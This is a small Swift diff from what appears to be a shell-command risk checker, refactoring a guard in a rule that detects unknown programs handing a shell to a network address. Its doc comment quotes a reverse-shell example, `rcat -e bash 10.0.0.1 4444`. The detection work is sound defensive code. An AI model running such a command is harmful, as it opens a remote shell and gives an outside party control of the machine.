@@ -71,7 +71,7 @@ extension RiskRule {
 
   /// A program that is not known, given a shell and an address: `rcat -e bash 10.0.0.1 4444`.
   private static func handsOutShell(_ invocation: Invocation, _ name: String) -> Bool {
-    guard invocation.arguments.count > 2, !Wrapper.isKnown(name), !DestructiveVerbs.takesFreeWords.contains(name),
+    guard invocation.arguments.count > 2, invocation.facts.wrappers.isEmpty, !invocation.facts.takesFreeWords,
       invocation.words.contains(where: { shells.contains(InvocationCollector.baseName($0)) })
     else { return false }
     return invocation.words.contains { word in
